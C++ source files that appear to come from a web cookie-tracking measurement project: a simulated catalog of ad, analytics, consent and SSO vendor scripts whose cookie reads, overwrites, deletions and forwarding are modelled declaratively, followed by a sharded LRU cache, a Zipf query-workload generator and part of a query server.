             {set_cookie("_ym_uid", "{ts}{rand:9}"),
              set_cookie("_ym_d", "{ts}{rand:8}"),
              exfiltrate({"_ga", "_gid", "_ym_uid", "_ym_d", "__utma",
                          "__utmb", "__utmz"},
                         "mc.yandex.ru", Encoding::kRaw, "/watch")});

  add_vendor(eco, catalog, "pinterest", "https://s.pinimg.com/ct/core.js",
             Category::kAdvertising, 0.02, 0.06,
             {set_cookie("_pin_unauth", "{hex:40}"),
              exfiltrate({"_ga", "_gid", "_gcl_au", "_pin_unauth"},
                         "ct.pinterest.com", Encoding::kRaw, "/v3")});

  // LinkedIn Insight: the §5.4 case study — parses the _ga client id and
  // ships it Base64-encoded to px.ads.linkedin.com.
  add_vendor(eco, catalog, "linkedin-insight",
             "https://snap.licdn.com/li.lms-analytics/insight.min.js",
             Category::kAdvertising, 0.03, 0.07,
             {set_cookie("li_fat_id", "{hex:36}"),
              exfiltrate({"_ga", "_gcl_au", "li_fat_id"},
                         "px.ads.linkedin.com", Encoding::kBase64,
                         "/attribution_trigger")});

  add_vendor(eco, catalog, "tiktok",
             "https://analytics.tiktok.com/i18n/pixel/events.js",
             Category::kAdvertising, 0.03, 0.10,
             {set_cookie("_ttp", "{hex:28}"),
              exfiltrate({"_ttp"}, "analytics.tiktok.com",
                         Encoding::kRaw, "/api/v2")});

  add_vendor(eco, catalog, "snap-pixel", "https://sc-static.net/scevent.min.js",
             Category::kAdvertising, 0.01, 0.05,
             {set_cookie("_scid", "{hex:30}"),
              set_cookie("sc_reload", "{hex:10}", "; Path=/; Max-Age=3600"),
              exfiltrate({"_scid", "_ga"}, "tr.snapchat.com", Encoding::kRaw,
                         "/v2")});

  // ---- analytics / marketing SaaS ---------------------------------------
  add_vendor(eco, catalog, "segment", "https://cdn.segment.com/analytics.js",
             Category::kAnalytics, 0.04, 0.05,
             {set_cookie("ajs_anonymous_id", "{hex:32}"),
              overwrite({"_uetsid", "_uetvid"}, "{hex:32}"),
              exfiltrate({"ajs_anonymous_id", "ajs_user_id", "_ga"},
                         "api.segment.io", Encoding::kRaw, "/v1/p")});

  add_vendor(eco, catalog, "hubspot", "https://js.hs-scripts.com/8442.js",
             Category::kAnalytics, 0.05, 0.07,
             {set_cookie("hubspotutk", "{hex:32}"),
              set_cookie("__hstc", "{hex:32}.{ts}.{ts}.{ts}.1"),
              exfiltrate({"_ga", "_gid", "_gcl_au", "hubspotutk", "__hstc",
                          "gaconnector_GA_Client_ID",
                          "gaconnector_GA_Session_ID"},
                         "track.hubspot.com", Encoding::kRaw, "/__ptq.gif")});

  add_vendor(eco, catalog, "marketo", "https://munchkin.marketo.net/munchkin.js",
             Category::kAnalytics, 0.01, 0.04,
             {set_cookie("_mkto_trk", "id{rand:8}token{hex:18}{ts}"),
              exfiltrate({"_mkto_trk", "_ga"}, "munchkin.marketo.net",
                         Encoding::kRaw, "/mch")});

  add_vendor(eco, catalog, "adobe-launch",
             "https://assets.adobedtm.com/launch-a1b2.min.js",
             Category::kAnalytics, 0.03, 0.04,
             {set_cookie("AMCV_ID", "{rand:19}"),
              set_cookie("s_ecid", "MCMID{rand:19}"),
              exfiltrate({"_ga", "_gcl_au", "AMCV_ID", "s_ecid"},
                         "dpm.demdex.net", Encoding::kRaw, "/id")});

  add_vendor(eco, catalog, "hotjar", "https://static.hotjar.com/c/hotjar.js",
             Category::kAnalytics, 0.04, 0.08,
             {set_cookie("_hjSessionUser", "{hex:30}"),
              beacon("insights.hotjar.com", "/api/v2")});

  add_vendor(eco, catalog, "quantcast", "https://secure.quantserve.com/quant.js",
             Category::kAnalytics, 0.01, 0.04,
             {set_cookie("__qca", "P0-{rand:9}-{ts}"),
              exfiltrate({"__qca"}, "pixel.quantserve.com",
                         Encoding::kRaw, "/pixel")});

  add_vendor(eco, catalog, "statcounter",
             "https://www.statcounter.com/counter/counter.js",
             Category::kAnalytics, 0.015, 0.01,
             {set_cookie("sc_is_visitor_unique", "rx{rand:12}x"),
              beacon("c.statcounter.com", "/t.php")});

  add_vendor(eco, catalog, "yahoojp-ytag",
             "https://s.yimg.jp/images/listing/tool/cv/ytag.js",
             Category::kAdvertising, 0.01, 0.02,
             {set_cookie("_yjsu_yjad", "{ts}.{hex:16}"),
              exfiltrate({"_yjsu_yjad", "_ga"}, "b97.yahoo.co.jp",
                         Encoding::kRaw, "/t")});

  add_vendor(eco, catalog, "lotame", "https://tags.crwdcntrl.net/lt/c/16589/lt.min.js",
             Category::kAdvertising, 0.005, 0.03,
             {set_cookie("lotame_domain_check", "{hex:12}"),
              set_cookie("_cc_id", "{hex:26}"),
              exfiltrate({"_cc_id", "lotame_domain_check"}, "bcp.crwdcntrl.net",
                         Encoding::kRaw, "/5")});

  add_vendor(eco, catalog, "sharethis", "https://platform-api.sharethis.com/js/sharethis.js",
             Category::kSocial, 0.02, 0.03,
             {set_cookie("__stid", "{hex:24}"),
              exfiltrate({"__stid"}, "l.sharethis.com", Encoding::kRaw,
                         "/log")});

  add_vendor(eco, catalog, "taboola", "https://cdn.taboola.com/libtrc/loader.js",
             Category::kAdvertising, 0.015, 0.04,
             {set_cookie("t_gid", "{hex:26}"),
              exfiltrate({"t_gid", "_ga", "PugT", "SPugT"}, "trc.taboola.com",
                         Encoding::kRaw, "/trc")});

  add_vendor(eco, catalog, "outbrain", "https://widgets.outbrain.com/outbrain.js",
             Category::kAdvertising, 0.01, 0.03,
             {set_cookie("outbrain_cid", "{hex:24}"),
              exfiltrate({"outbrain_cid", "_ga"}, "log.outbrain.com",
                         Encoding::kRaw, "/loggerServices")});

  // GA Connector: reads Google ids, copies them into its own cookies, and
  // forwards everything (Table 2 rows 19-20).
  add_vendor(eco, catalog, "gaconnector", "https://gaconnector.com/gaconnector.js",
             Category::kAnalytics, 0.004, 0.02,
             {set_cookie("gaconnector_GA_Client_ID", "{rand:9}{rand:9}"),
              set_cookie("gaconnector_GA_Session_ID", "{rand:9}{rand:9}"),
              exfiltrate({"_ga", "_gid", "gaconnector_GA_Client_ID",
                          "gaconnector_GA_Session_ID"},
                         "track.gaconnector.com", Encoding::kRaw, "/collect")});

  // Sentry ("Functional Software" in Table 5): rewrites identifiers it
  // considers PII — the top cross-domain overwriter of _fbp.
  add_vendor(eco, catalog, "sentry", "https://browser.sentry-cdn.com/7.2/bundle.min.js",
             Category::kSupport, 0.05, 0.02,
             {set_cookie("sentry_sid", "{hex:32}", "; Path=/; Max-Age=7200"),
              overwrite({"_fbp", "ajs_anonymous_id", "_gid"}, "{hex:32}")});

  add_vendor(eco, catalog, "newrelic", "https://js-agent.newrelic.com/nr-1216.min.js",
             Category::kPerformance, 0.04, 0.02,
             {set_cookie("nr_sess", "{hex:16}", "; Path=/; Max-Age=1800"),
              overwrite({"OptanonConsent"}, "{hex:32}&groups=C0001:1")});

  add_vendor(eco, catalog, "intercom", "https://widget.intercom.io/widget/app1",
             Category::kSupport, 0.03, 0.01,
             {set_cookie("intercom-id-app1", "{hex:32}"),
              read_cookies(), create_dom("div")});

  add_vendor(eco, catalog, "zendesk", "https://static.zdassets.com/ekr/snippet.js",
             Category::kSupport, 0.03, 0.01,
             {set_cookie("__zlcmid", "{hex:24}"), create_dom("div")});

  add_vendor(eco, catalog, "optimizely", "https://cdn.optimizely.com/js/128.js",
             Category::kAnalytics, 0.02, 0.03,
             {set_cookie("optimizelyEndUserId", "oeu{ts}r{hex:14}"),
              overwrite({"utag_main"}, "v_id:{hex:26}$_sn:2"),
              modify_dom("div")});

  // Tealium: tag-management + consent enforcement; top cross-domain deleter
  // of the Bing UET cookies (Table 5).
  add_vendor(eco, catalog, "tealium", "https://tags.tiqcdn.com/utag/main/prod/utag.js",
             Category::kTagManager, 0.04, 0.03,
             {set_cookie("utag_main", "v_id:{hex:26}$_sn:1"),
              delete_cookies({"_uetvid", "_uetsid"}),
              exfiltrate({"utag_main", "_ga"}, "collect.tealiumiq.com",
                         Encoding::kRaw, "/udw/i.gif")});

  // Mediavine / AdThrive: publisher ad managers reading exchange cookies
  // (top exfiltrators of openx's i/pd in Table 2).
  add_vendor(eco, catalog, "mediavine", "https://scripts.mediavine.com/tags/site.js",
             Category::kAdvertising, 0.025, 0.0,
             {set_cookie("mv_vid", "{hex:24}"),
              exfiltrate({"i", "pd", "_ga", "sc_is_visitor_unique"},
                         "amazon-adsystem.com", Encoding::kRaw, "/e/dtb"),
              exfiltrate({"i", "pd", "mv_vid"}, "i.liveintent.com",
                         Encoding::kRaw, "/match")});

  add_vendor(eco, catalog, "adthrive", "https://ads.adthrive.com/sites/abc/ads.min.js",
             Category::kAdvertising, 0.015, 0.0,
             {set_cookie("at_id", "{hex:24}"),
              exfiltrate({"i", "pd", "SPugT", "PugT", "_ga"},
                         "c.amazon-adsystem.com", Encoding::kRaw, "/aax2"),
              exfiltrate({"at_id", "_ga"}, "ads.adthrive.com", Encoding::kRaw,
                         "/bid")});

  // Lazy-loading ad helper: exfiltrates from a setTimeout callback routed
  // through a shared CDN utility — the §8 async-attribution blind spot.
  add_vendor(eco, catalog, "lazy-ads", "https://cdn.lazyload-ads.com/l.js",
             Category::kAdvertising, 0.015, 0.04,
             {set_cookie("llad_uid", "{hex:20}"),
              run_async(
                  800,
                  {exfiltrate({"_ga", "llad_uid"}, "px.lazyload-ads.com",
                              Encoding::kRaw, "/sync")},
                  "https://cdnjs.cloudflare.com/ajax/libs/jquery/3.6.0/"
                  "jquery.min.js")});

  add_vendor(eco, catalog, "cdnjs-jquery",
             "https://cdnjs.cloudflare.com/ajax/libs/jquery/3.6.0/jquery.min.js",
             Category::kCdnUtility, 0.35, 0.0,
             {read_cookies(), create_dom("div")});

  // ---- RTB bidders (injected by the GPT ad stack) -----------------------
  add_rtb_bidder(eco, catalog, "gpt-core",
                 "https://securepubads.g.doubleclick.net/tag/js/gpt.js",
                 {set_cookie("__gads", "ID{hex:16}T{ts}"),
                  set_cookie("__gpi", "UID{rand:12}"),
                  exfiltrate({"_ga", "_gcl_au", "__gads", "__gpi",
                              "sc_is_visitor_unique", "lotame_domain_check"},
                             "securepubads.g.doubleclick.net", Encoding::kRaw,
                             "/gampad/ads")});

  add_rtb_bidder(eco, catalog, "amazon-apstag",
                 "https://c.amazon-adsystem.com/aax2/apstag.js",
                 {set_cookie("apsid", "{hex:20}"),
                  exfiltrate({"_ga", "_gid", "i", "pd", "us_privacy",
                              "lotame_domain_check", "apsid"},
                             "c.amazon-adsystem.com", Encoding::kRaw,
                             "/e/dtb/bid")});

  add_rtb_bidder(eco, catalog, "pubmatic",
                 "https://ads.pubmatic.com/AdServer/js/pwt/pwt.js",
                 {set_cookie("PugT", "{ts}{rand:8}"),
                  set_cookie("SPugT", "{ts}{rand:8}"),
                  // Deliberate competitor overwrite: Criteo's cto_bundle is
                  // replaced by a longer PubMatic-format hash (§5.5 case).
                  overwrite({"cto_bundle"}, "{hex:258}"),
                  exfiltrate({"_ga", "i", "pd", "PugT", "SPugT"},
                             "ads.pubmatic.com", Encoding::kRaw, "/bid")});

  add_rtb_bidder(eco, catalog, "openx",
                 "https://us-u.openx.net/w/1.0/jstag",
                 {set_cookie("i", "{hex:20}"), set_cookie("pd", "{hex:26}"),
                  exfiltrate({"_ga", "_gid", "i", "pd"}, "us-u.openx.net",
                             Encoding::kRaw, "/w/1.0/bid")});

  add_rtb_bidder(eco, catalog, "criteo",
                 "https://static.criteo.net/js/ld/ld.js",
                 {set_cookie("cto_bundle", "{hex:194}"),
                  exfiltrate({"_fbp", "_ga", "cto_bundle"},
                             "sslwidget.criteo.com", Encoding::kRaw,
                             "/event")});

  add_rtb_bidder(eco, catalog, "index-exchange",
                 "https://js-sec.indexww.com/ht/p/ix.js",
                 {set_cookie("CMID", "{hex:16}"),
                  set_cookie("CMPS", "{rand:8}{rand:4}"),
                  exfiltrate({"_ga", "CMID", "i"}, "ssum-sec.casalemedia.com",
                             Encoding::kRaw, "/usermatch")});

  add_rtb_bidder(eco, catalog, "magnite",
                 "https://ads.rubiconproject.com/prebid/creative.js",
                 {set_cookie("khaos", "{hex:20}"),
                  exfiltrate({"khaos", "_ga", "sc_is_visitor_unique"},
                             "pixel.rubiconproject.com", Encoding::kRaw,
                             "/exchange")});

  add_rtb_bidder(eco, catalog, "tradedesk",
                 "https://js.adsrvr.org/up_loader.1.1.0.js",
                 {set_cookie("TDID", "{hex:32}"),
                  exfiltrate({"TDID", "_ga"}, "match.adsrvr.org",
                             Encoding::kRaw, "/track")});

  add_rtb_bidder(eco, catalog, "liveintent",
                 "https://b-code.liadm.com/lc2.js",
                 {set_cookie("lidid", "{hex:26}"),
                  exfiltrate({"lidid", "i", "pd", "_ga"}, "i.liveintent.com",
                             Encoding::kRaw, "/idex")});

  // ---- consent managers --------------------------------------------------
  add_consent_manager(
      eco, catalog, "onetrust",
      "https://cdn.cookielaw.org/scripttemplates/otSDKStub.js", 0.55,
      {set_cookie("OptanonConsent", "{hex:32}&groups=C0001:1,C0002:1"),
       set_cookie("OptanonAlertBoxClosed", "{ts}")},
      {delete_cookies({"_fbp", "_uetvid", "cookie_test", "promo_seen"})});

  add_consent_manager(
      eco, catalog, "cookieyes",
      "https://cdn-cookieyes.com/client_data/a1b2c3/script.js", 0.18,
      {set_cookie("cookieyes-consent", "consentid{hex:24}")},
      {delete_cookies({"_fbp", "_uetvid", "_uetsid", "_ga", "_gid", "_gcl_au",
                       "cookie_test", "promo_seen", "visitor_id",
                       "ab_bucket"})});

  add_consent_manager(
      eco, catalog, "cookie-script",
      "https://cdn.cookie-script.com/s/d4e5f6.js", 0.12,
      {set_cookie("CookieScriptConsent", "{hex:20}")},
      {delete_cookies({"_fbp", "_uetvid", "_uetsid", "_ga", "_gid",
                       "cookie_test", "visitor_id"})});

  // Osano: the §5.4 cross-company case — a consent manager that reads
  // Facebook's _fbp and forwards it to Criteo.
  add_consent_manager(
      eco, catalog, "osano",
      "https://cmp.osano.com/1vX3GkPazR/osano.js", 0.08,
      {set_cookie("osano_consentmanager", "{hex:32}"),
       exfiltrate({"_fbp"}, "sslwidget.criteo.com", Encoding::kRaw,
                  "/event")},
      {delete_cookies({"_fbp", "_ga"})});

  add_consent_manager(
      eco, catalog, "ketch", "https://global.ketchcdn.com/web/v2/config.js",
      0.07,
      {set_cookie("us_privacy", "1YNN{hex:12}")},
      {delete_cookies({"_fbp", "_gcl_au"})});

  // ---- SSO widgets (crawl-time behaviour only; login flows are driven by
  // the breakage probes) ---------------------------------------------------
  catalog.add(make_spec("google-sso", "https://accounts.google.com/gsi/client",
                        Category::kSso,
                        {set_cookie("g_state", "{hex:16}"),
                         beacon("accounts.google.com", "/gsi/status")}));
  catalog.add(make_spec("fb-sso", "https://connect.facebook.net/en_US/sdk.js",
                        Category::kSso,
                        {set_cookie("fb_login_state", "{hex:20}"),
                         beacon("www.facebook.com", "/x/oauth/status")}));
  catalog.add(make_spec("ms-sso-a",
                        "https://secure.aadcdn.microsoft.com/lib/msal.js",
                        Category::kSso,
                        {set_cookie("ms_sso_state", "{hex:20}"),
                         beacon("login.microsoftonline.com", "/common")}));
  catalog.add(make_spec("ms-sso-b", "https://login.live.com/auth/refresh.js",
                        Category::kSso,
                        {read_cookies(),
                         beacon("login.live.com", "/oauth20")}));
  // Cross-entity two-domain SSO broker pair (no shared entity — entity
  // grouping cannot repair these; a per-site domain policy is required).
  catalog.add(make_spec("sso-broker-a", "https://cdn.authjs.dev/broker.js",
                        Category::kSso,
                        {set_cookie("broker_state", "{hex:20}"),
                         beacon("api.authjs.dev", "/state")}));
  catalog.add(make_spec("sso-broker-b",
                        "https://login.ssoprovider.io/check.js",
                        Category::kSso,
                        {read_cookies(),
                         beacon("login.ssoprovider.io", "/session/check")}));
  catalog.add(make_spec("okta-widget",
                        "https://ok1static.oktacdn.com/assets/js/sdk/okta.js",
                        Category::kSso,
                        {set_cookie("okta_state", "{hex:20}")}));
  catalog.add(make_spec("auth0-widget", "https://cdn.auth0.com/js/lock.min.js",
                        Category::kSso,
                        {set_cookie("auth0_compat", "{hex:20}")}));

  // Facebook Messenger-style widget: served from the entity CDN
  // (fbcdn.net), reads the pixel's cookie from facebook.net — the §7.2
  // functionality-breakage case fixed by entity grouping.
  catalog.add(make_spec("fb-messenger",
                        "https://static.fbcdn.net/rsrc/chat_widget.js",
                        Category::kSupport,
                        {read_cookies(), create_dom("iframe"),
                         exfiltrate({"_fbp", "fb_login_state"},
                                    "edge-chat.facebook.com", Encoding::kRaw,
                                    "/mqtt")}));

  // ---- cookieStore users (§5.2) -----------------------------------------
  catalog.add(make_spec(
      "shopify-perf",
      "https://cdn.shopifycloud.com/perf-kit/shopify-perf-kit-1.6.0.min.js",
      Category::kPerformance,
      {store_set_cookie("keep_alive", "{hex:12}-{rand:8}"), store_get_all(),
       beacon("v.shopify.com", "/internal/perf")}));
  // Admiral's SDK is added per-site by the generator (it is served from a
  // different hosting domain on every publisher — that is why the paper sees
  // 411 cookieStore pairs across 361 domains for ~2 cookie names).

  // ---- inline snippet ----------------------------------------------------
  {
    ScriptSpec inline_spec;
    inline_spec.id = "inline-snippet";
    inline_spec.category = Category::kFirstParty;
    inline_spec.is_inline = true;
    inline_spec.ops = {read_cookies(), create_dom("div")};
    catalog.add(std::move(inline_spec));
  }

  // ---- long tail ---------------------------------------------------------
  script::Rng rng(params.seed ^ 0x7A11ULL);
  static const char* kTailTlds[] = {"com", "net", "io", "media", "co"};
  static const char* kTailWords[] = {"metrics", "pixel", "adserve", "track",
                                     "beacon", "audience", "reach", "spark",
                                     "vertex", "nimbus"};
  for (int i = 0; i < params.tail_vendor_count; ++i) {
    const std::string word = kTailWords[rng.below(std::size(kTailWords))];
    const std::string domain = word + std::to_string(i) + "." +
                               kTailTlds[rng.below(std::size(kTailTlds))];
    const std::string id = "tail-" + std::to_string(i);
    const double roll = rng.uniform();
    Category category = Category::kAdvertising;
    if (roll > 0.70 && roll <= 0.80) category = Category::kSupport;
    if (roll > 0.80 && roll <= 0.90) category = Category::kCdnUtility;
    if (roll > 0.90) category = Category::kPerformance;

    const std::string own_cookie = "tl" + std::to_string(i) + "_id";
    std::vector<ScriptOp> ops;
    const bool sets_cookie = rng.chance(0.75);
    if (sets_cookie) ops.push_back(set_cookie(own_cookie, "{hex:16}"));
    const double behaviour = rng.uniform();
    if (category == Category::kAdvertising && behaviour < 0.02) {
      // A minority of tail vendors harvest foreign identifiers too.
      Encoding enc = Encoding::kRaw;
      const double enc_roll = rng.uniform();
      if (enc_roll > 0.80 && enc_roll <= 0.90) enc = Encoding::kBase64;
      if (enc_roll > 0.90 && enc_roll <= 0.95) enc = Encoding::kMd5;
      if (enc_roll > 0.95) enc = Encoding::kSha1;
      ops.push_back(exfiltrate({"_ga", "_gid", "_fbp", own_cookie},
                               "sync." + domain, enc, "/s"));
    } else if (category == Category::kAdvertising && behaviour < 0.60 &&
               sets_cookie) {
      // Most only report their own identifier (authorized exfiltration).
      ops.push_back(
          exfiltrate({own_cookie}, "sync." + domain, Encoding::kRaw, "/s"));
    } else if (category == Category::kAdvertising && behaviour >= 0.60 &&
               behaviour < 0.622) {
      ops.push_back(overwrite(
          {rng.chance(0.5) ? "user_id" : "cookie_test", "visitor_id"},
          "{hex:16}"));
    } else {
      ops.push_back(beacon("px." + domain, "/p"));
    }
    if (rng.chance(0.004)) ops.push_back(modify_dom("div"));

    catalog.add(
        make_spec(id, "https://cdn." + domain + "/tag.js", category, ops));
    eco.tail_ids.push_back(id);
  }

  return eco;
}

}  // namespace cg::corpus
