// Bounded hot-block cache for decoded archive sites.
//
// Under zipfian traffic a few hundred popular sites absorb most per-site
// lookups; caching their decoded VisitLogs turns the dominant query cost
// (block CRC + record decode) into a map lookup. The cache is sharded by
// rank to keep lock hold times off the serving path's critical section.
//
// Policy (deterministic — a pure function of the access sequence, no
// wall-clock, no randomness):
//   admission:  blocks whose *encoded* size exceeds max_block_bytes are
//               never admitted (one pathological megasite must not evict a
//               shard's whole working set). Encoded size comes from the
//               footer index, so the decision is made before decoding.
//   eviction:   strict LRU per shard; each shard holds at most
//               max_entries / shards entries.
//
// The cache is semantically transparent: hit or miss, the caller gets the
// same decoded log, so query answers are byte-identical at any thread
// count even though concurrent interleavings may populate shards in
// different orders. Counters are atomics exported into obs::MetricsRegistry
// (serve.cache.*) — totals are interleaving-independent, per-shard
// occupancy is diagnostic only.
#pragma once

#include <atomic>
#include <cstdint>
#include <list>
#include <map>
#include <memory>
#include <mutex>
#include <vector>

#include "instrument/records.h"
#include "obs/metrics.h"

namespace cg::serve {

struct CacheConfig {
  /// Total decoded-log entries across all shards; 0 disables caching.
  std::size_t max_entries = 4096;
  /// Admission bound on the encoded block size (footer index length).
  std::uint64_t max_block_bytes = 1 << 20;
  /// Lock shards; clamped to [1, max_entries] so every shard holds ≥ 1.
  int shards = 16;
};

class BlockCache {
 public:
  explicit BlockCache(CacheConfig config);

  BlockCache(const BlockCache&) = delete;
  BlockCache& operator=(const BlockCache&) = delete;

  /// Cached decoded log for (archive, rank), or null on miss. Thread-safe;
  /// a hit refreshes the entry's LRU position.
  std::shared_ptr<const instrument::VisitLog> get(std::uint32_t archive,
                                                  int rank);

  /// Offers a decoded log. Rejected (counted, not stored) when
  /// encoded_bytes exceeds the admission bound or caching is disabled;
  /// otherwise inserted, evicting the shard's LRU entry if full. A log
  /// already present keeps the existing entry (refreshed).
  void put(std::uint32_t archive, int rank, std::uint64_t encoded_bytes,
           std::shared_ptr<const instrument::VisitLog> log);

  struct Stats {
    std::int64_t hits = 0;
    std::int64_t misses = 0;
    std::int64_t insertions = 0;
    std::int64_t evictions = 0;
    std::int64_t rejected_admission = 0;  // over max_block_bytes
    std::int64_t entries = 0;             // current occupancy
  };
  Stats stats() const;

  /// Exports serve.cache.* counters/gauges into `registry`.
  void export_metrics(obs::MetricsRegistry& registry) const;

  const CacheConfig& config() const { return config_; }

 private:
  using Key = std::pair<std::uint32_t, int>;
  struct Entry {
    Key key;
    std::shared_ptr<const instrument::VisitLog> log;
  };
  struct Shard {
    std::mutex mu;
    std::list<Entry> lru;  // front = most recent
    std::map<Key, std::list<Entry>::iterator> index;
  };

  Shard& shard_for(int rank) {
    return *shards_[static_cast<std::size_t>(rank) % shards_.size()];
  }

  CacheConfig config_;
  std::size_t per_shard_capacity_ = 0;
  std::vector<std::unique_ptr<Shard>> shards_;

  mutable std::atomic<std::int64_t> hits_{0};
  mutable std::atomic<std::int64_t> misses_{0};
  mutable std::atomic<std::int64_t> insertions_{0};
  mutable std::atomic<std::int64_t> evictions_{0};
  mutable std::atomic<std::int64_t> rejected_{0};
};

}  // namespace cg::serve
