#include "serve/cache.h"

#include <algorithm>
#include <utility>

namespace cg::serve {

BlockCache::BlockCache(CacheConfig config) : config_(config) {
  std::size_t shard_count = config_.shards < 1
                                ? 1
                                : static_cast<std::size_t>(config_.shards);
  if (config_.max_entries == 0) {
    shard_count = 1;  // disabled: one empty shard keeps the code path uniform
    per_shard_capacity_ = 0;
  } else {
    shard_count = std::min(shard_count, config_.max_entries);
    per_shard_capacity_ = config_.max_entries / shard_count;
  }
  shards_.reserve(shard_count);
  for (std::size_t i = 0; i < shard_count; ++i) {
    shards_.push_back(std::make_unique<Shard>());
  }
}

std::shared_ptr<const instrument::VisitLog> BlockCache::get(
    std::uint32_t archive, int rank) {
  Shard& shard = shard_for(rank);
  const Key key{archive, rank};
  std::lock_guard<std::mutex> lock(shard.mu);
  const auto it = shard.index.find(key);
  if (it == shard.index.end()) {
    misses_.fetch_add(1, std::memory_order_relaxed);
    return nullptr;
  }
  // Refresh: splice the entry to the front of the LRU list.
  shard.lru.splice(shard.lru.begin(), shard.lru, it->second);
  hits_.fetch_add(1, std::memory_order_relaxed);
  return it->second->log;
}

void BlockCache::put(std::uint32_t archive, int rank,
                     std::uint64_t encoded_bytes,
                     std::shared_ptr<const instrument::VisitLog> log) {
  if (per_shard_capacity_ == 0 || encoded_bytes > config_.max_block_bytes) {
    rejected_.fetch_add(1, std::memory_order_relaxed);
    return;
  }
  Shard& shard = shard_for(rank);
  const Key key{archive, rank};
  std::lock_guard<std::mutex> lock(shard.mu);
  const auto it = shard.index.find(key);
  if (it != shard.index.end()) {
    // Another thread decoded the same block first; keep the incumbent.
    shard.lru.splice(shard.lru.begin(), shard.lru, it->second);
    return;
  }
  if (shard.lru.size() >= per_shard_capacity_) {
    shard.index.erase(shard.lru.back().key);
    shard.lru.pop_back();
    evictions_.fetch_add(1, std::memory_order_relaxed);
  }
  shard.lru.push_front(Entry{key, std::move(log)});
  shard.index[key] = shard.lru.begin();
  insertions_.fetch_add(1, std::memory_order_relaxed);
}

BlockCache::Stats BlockCache::stats() const {
  Stats stats;
  stats.hits = hits_.load(std::memory_order_relaxed);
  stats.misses = misses_.load(std::memory_order_relaxed);
  stats.insertions = insertions_.load(std::memory_order_relaxed);
  stats.evictions = evictions_.load(std::memory_order_relaxed);
  stats.rejected_admission = rejected_.load(std::memory_order_relaxed);
  for (const auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->mu);
    stats.entries += static_cast<std::int64_t>(shard->lru.size());
  }
  return stats;
}

void BlockCache::export_metrics(obs::MetricsRegistry& registry) const {
  const Stats stats = this->stats();
  registry.add("serve.cache.hits", stats.hits);
  registry.add("serve.cache.misses", stats.misses);
  registry.add("serve.cache.insertions", stats.insertions);
  registry.add("serve.cache.evictions", stats.evictions);
  registry.add("serve.cache.rejected_admission", stats.rejected_admission);
  registry.gauge_max("serve.cache.entries", stats.entries);
  registry.gauge_max("serve.cache.capacity",
                     static_cast<std::int64_t>(per_shard_capacity_ *
                                               shards_.size()));
}

}  // namespace cg::serve
