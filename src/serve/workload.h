// Deterministic synthetic query workloads for the serving tier.
//
// "Millions of users" means skewed traffic: a small set of popular sites
// absorbs most lookups. ZipfSampler draws site ranks from a zipf(s)
// distribution over [0, n) via one precomputed CDF and a binary search per
// sample; WorkloadGenerator layers a seeded query-type mix on top. Both are
// pure functions of their seed (script::Rng SplitMix64, cglint D2) — the
// same spec generates the same query stream on any machine at any thread
// count, which is what lets bench_serve compare N-thread answers against
// 1-thread byte-for-byte.
#pragma once

#include <cstddef>
#include <cstdint>
#include <vector>

#include "script/rng.h"
#include "serve/query.h"

namespace cg::serve {

/// Zipf-distributed rank sampler: P(rank k) ∝ 1 / (k+1)^s. `s` ≈ 0.99 is
/// the classic web-popularity exponent; s = 0 degenerates to uniform.
class ZipfSampler {
 public:
  ZipfSampler(int n, double s);

  int n() const { return static_cast<int>(cdf_.size()); }
  double exponent() const { return s_; }

  /// Probability mass of `rank` (0-based popularity order).
  double probability(int rank) const;

  /// Draws one rank using the caller's RNG stream.
  int sample(script::Rng& rng) const;

 private:
  double s_ = 0;
  std::vector<double> cdf_;  // inclusive prefix sums, back() == 1.0
};

/// Query-type mix in parts (need not sum to 100; weights are relative).
/// The default mix models a dashboard backed by the serving tier: mostly
/// per-site lookups with a steady trickle of aggregate panels.
struct WorkloadSpec {
  int site_count = 0;           // ranks drawn from [0, site_count)
  double zipf_exponent = 0.99;  // site-popularity skew
  std::uint64_t seed = 0x5EEDCA5E;

  int weight_site = 90;
  int weight_table1 = 3;
  int weight_totals = 3;
  int weight_top_exfiltrated = 2;
  int weight_top_domains = 1;
  int weight_entity = 1;

  /// Entity names the kEntity queries cycle through (picked uniformly).
  std::vector<std::string> entities = {"Google", "Facebook", "Criteo",
                                       "Adobe", "Amazon"};
};

/// Generates the deterministic query stream described by a WorkloadSpec.
class WorkloadGenerator {
 public:
  explicit WorkloadGenerator(WorkloadSpec spec);

  const WorkloadSpec& spec() const { return spec_; }

  /// The next query in the stream (advances the generator).
  Query next();

  /// The first `n` queries of the stream from a fresh generator state —
  /// `generate(n)` twice returns the same vector twice.
  std::vector<Query> generate(std::size_t n);

 private:
  WorkloadSpec spec_;
  ZipfSampler sampler_;
  script::Rng rng_;
  int total_weight_ = 0;
};

}  // namespace cg::serve
