#include "serve/server.h"

#include <algorithm>
#include <utility>

#include "cookies/cookie.h"
#include "entities/entity_map.h"
#include "fault/fault.h"
#include "store/record_codec.h"

namespace cg::serve {
namespace {

using cookies::CookieSource;

/// Binary search of a footer index (ranks strictly increasing) for `rank`.
const store::IndexEntry* find_entry(const std::vector<store::IndexEntry>& index,
                                    int rank) {
  const auto it = std::lower_bound(
      index.begin(), index.end(), rank,
      [](const store::IndexEntry& e, int r) { return e.rank < r; });
  if (it == index.end() || it->rank != rank) return nullptr;
  return &*it;
}

report::Json error_json(const Query& query, const std::string& detail) {
  report::Json out = report::Json::object();
  out["kind"] = query_kind_name(query.kind);
  out["error"] = detail;
  return out;
}

report::Json api_breakdown(const analysis::SiteSummary& s, CookieSource via,
                           int sites_exfil, int sites_over, int sites_del,
                           int sites_complete) {
  const double n = sites_complete > 0 ? sites_complete : 1;
  report::Json out = report::Json::object();
  out["pairs"] = s.pair_count(via);
  out["exfiltrated_pairs"] = s.exfiltrated_pair_count(via);
  out["overwritten_pairs"] = s.overwritten_pair_count(via);
  out["deleted_pairs"] = s.deleted_pair_count(via);
  out["sites_exfiltrating"] = sites_exfil;
  out["sites_overwriting"] = sites_over;
  out["sites_deleting"] = sites_del;
  out["pct_sites_exfiltrating"] = 100.0 * sites_exfil / n;
  out["pct_sites_overwriting"] = 100.0 * sites_over / n;
  out["pct_sites_deleting"] = 100.0 * sites_del / n;
  return out;
}

}  // namespace

Server::Server(std::vector<Archive> archives, const ServerConfig& config)
    : archives_(std::move(archives)), cache_(config.cache) {}

std::unique_ptr<Server> Server::open(const std::vector<std::string>& paths,
                                     const ServerConfig& config,
                                     store::Error* error) {
  std::vector<store::Reader> readers;
  readers.reserve(paths.size());
  for (const std::string& path : paths) {
    auto reader = store::Reader::open(path, error);
    if (!reader) return nullptr;
